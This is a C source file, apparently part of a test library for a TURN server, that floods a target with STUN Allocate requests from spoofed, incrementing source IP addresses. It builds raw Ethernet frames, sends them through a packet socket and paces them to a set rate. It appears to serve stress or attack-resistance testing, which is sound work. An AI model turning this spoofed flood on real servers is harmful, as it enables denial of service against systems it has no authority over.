#include "tests/lib/turn_attack.h"

#include "base/clock.h"
#include "base/rnd.h"
#include "codec/stun.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#define BATCH 32
#define WAKE_UPS 10000 /* a second, at most */
#define LATE_US 50000  /* so much behind, nothing makes up for it */
#define HEADERS (ETH_HLEN + sizeof(struct iphdr) + sizeof(struct udphdr))
#define FRAME (HEADERS + STUN_HEADER_SIZE + 8)

struct turn_attack {
    struct turn_attack_config config;
    int fd;
    pthread_t thread;
    bool stop;
    uint64_t n_sent;
    size_t next; /* frame */
    uint8_t frames[][FRAME];
};

/* ---- frames ---- */

static uint16_t ip_checksum(const struct iphdr *ip)
{
    uint16_t words[sizeof(*ip) / 2];
    uint32_t sum = 0;

    memcpy(words, ip, sizeof(words));
    for (size_t i = 0; i < sizeof(words) / 2; i++)
        sum += words[i];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~(sum + (sum >> 16));
}

static uint32_t ip_of(const struct addr *a)
{
    uint32_t ip;

    memcpy(&ip, a->ip, sizeof(ip));
    return ip;
}

static int write_request(uint8_t *p)
{
    struct wr w = wr_init(p, FRAME - HEADERS);
    uint8_t tid[STUN_TID_SIZE];
    size_t len;

    rnd_bytes(tid, sizeof(tid));
    stun_begin(&w, STUN_REQUEST, STUN_ALLOCATE, tid);
    stun_put_u32(&w, STUN_ATTR_REQUESTED_TRANSPORT, IPPROTO_UDP << 24);
    return stun_finish(&w, &len);
}

/* The UDP checksum stays 0, that is none (RFC 768). */
static int write_frame(const struct turn_attack_config *c, size_t nr,
                       const struct ether_header *ether, uint8_t *p)
{
    struct iphdr ip = {
        .version = 4,
        .ihl = 5,
        .tot_len = htons(FRAME - ETH_HLEN),
        .ttl = 64,
        .protocol = IPPROTO_UDP,
        .saddr = htonl(ntohl(ip_of(&c->from)) + (uint32_t) nr),
        .daddr = ip_of(&c->server),
    };
    struct udphdr udp = {
        .source = htons((uint16_t) (1024 + nr % 60000)),
        .dest = htons(c->server.port),
        .len = htons(FRAME - ETH_HLEN - sizeof(ip)),
    };

    ip.check = ip_checksum(&ip);
    memcpy(p, ether, sizeof(*ether));
    memcpy(p + ETH_HLEN, &ip, sizeof(ip));
    memcpy(p + ETH_HLEN + sizeof(ip), &udp, sizeof(udp));
    return write_request(p + HEADERS);
}

/* The hardware address of the server's end: the kernel asks for it when something is sent there. */
static int find_server(const struct turn_attack_config *c, struct ether_header *ret)
{
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct arpreq arp = {0};
    struct ifreq own = {0};
    struct sockaddr_storage sa;
    socklen_t len = addr_to_sockaddr(&c->server, &sa);
    int r = -EHOSTUNREACH;

    snprintf(own.ifr_name, sizeof(own.ifr_name), "%s", c->interface);
    snprintf(arp.arp_dev, sizeof(arp.arp_dev), "%s", c->interface);
    memcpy(&arp.arp_pa, &sa, sizeof(arp.arp_pa));
    for (unsigned i = 0; i < 100 && r < 0; i++) {
        (void) sendto(fd, "", 0, 0, (struct sockaddr *) &sa, len);
        usleep(10000);
        if (ioctl(fd, SIOCGARP, &arp) == 0 && arp.arp_flags & ATF_COM)
            r = ioctl(fd, SIOCGIFHWADDR, &own) < 0 ? -errno : 0;
    }
    memcpy(ret->ether_dhost, arp.arp_ha.sa_data, ETH_ALEN);
    memcpy(ret->ether_shost, own.ifr_hwaddr.sa_data, ETH_ALEN);
    ret->ether_type = htons(ETHERTYPE_IP);
    close(fd);
    return r;
}

/* ---- sending ---- */

static int open_socket(const char *interface)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET,
                             .sll_ifindex = (int) if_nametoindex(interface)};
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0); /* protocol 0: receives nothing */
    int on = 1;

    if (fd < 0)
        return -errno;
    (void) setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
    if (bind(fd, (struct sockaddr *) &at, sizeof(at)) == 0)
        return fd;
    on = -errno;
    close(fd);
    return on;
}

static void send_some(struct turn_attack *a, unsigned n)
{
    struct mmsghdr m[BATCH];
    struct iovec iov[BATCH];
    int sent;

    memset(m, 0, sizeof(m));
    for (unsigned i = 0; i < n; i++) {
        iov[i] = (struct iovec){a->frames[a->next], FRAME};
        m[i].msg_hdr.msg_iov = &iov[i];
        m[i].msg_hdr.msg_iovlen = 1;
        a->next = (a->next + 1) % a->config.n_from;
    }
    sent = sendmmsg(a->fd, m, n, MSG_DONTWAIT);
    a->n_sent += sent > 0 ? (unsigned) sent : 0;
}

static void *run(void *arg)
{
    struct turn_attack *a = arg;
    unsigned n = 1 + a->config.per_second / WAKE_UPS;
    uint64_t due_us = clock_us();
    double step_us = 1e6 * n / a->config.per_second, rest_us = 0;

    (void) prctl(PR_SET_TIMERSLACK, 1);
    while (!__atomic_load_n(&a->stop, __ATOMIC_RELAXED)) {
        struct timespec t = {(time_t) (due_us / 1000000), (long) (due_us % 1000000) * 1000};
        uint64_t now_us = clock_us();

        if (now_us < due_us)
            (void) clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
        else if (now_us > due_us + LATE_US)
            due_us = now_us;
        send_some(a, n < BATCH ? n : BATCH);
        rest_us += step_us;
        due_us += (uint64_t) rest_us;
        rest_us -= (double) (uint64_t) rest_us;
    }
    return NULL;
}

int turn_attack_start(const struct turn_attack_config *config, struct turn_attack **ret_attack)
{
    struct turn_attack *a = calloc(1, sizeof(*a) + config->n_from * FRAME);
    struct ether_header ether;
    int r;

    if (!a)
        return -ENOMEM;
    a->config = *config;
    a->fd = open_socket(config->interface);
    r = a->fd < 0 ? a->fd : find_server(config, &ether);
    for (size_t i = 0; i < config->n_from && r == 0; i++)
        r = write_frame(config, i, &ether, a->frames[i]);
    if (r == 0)
        r = -pthread_create(&a->thread, NULL, run, a);
    if (r < 0) {
        if (a->fd >= 0)
            close(a->fd);
        free(a);
        return r;
    }
    *ret_attack = a;
    return 0;
}

uint64_t turn_attack_stop(struct turn_attack *a)
{
    uint64_t n;

    __atomic_store_n(&a->stop, true, __ATOMIC_RELAXED);
    pthread_join(a->thread, NULL);
    n = a->n_sent;
    close(a->fd);
    free(a);
    return n;
}
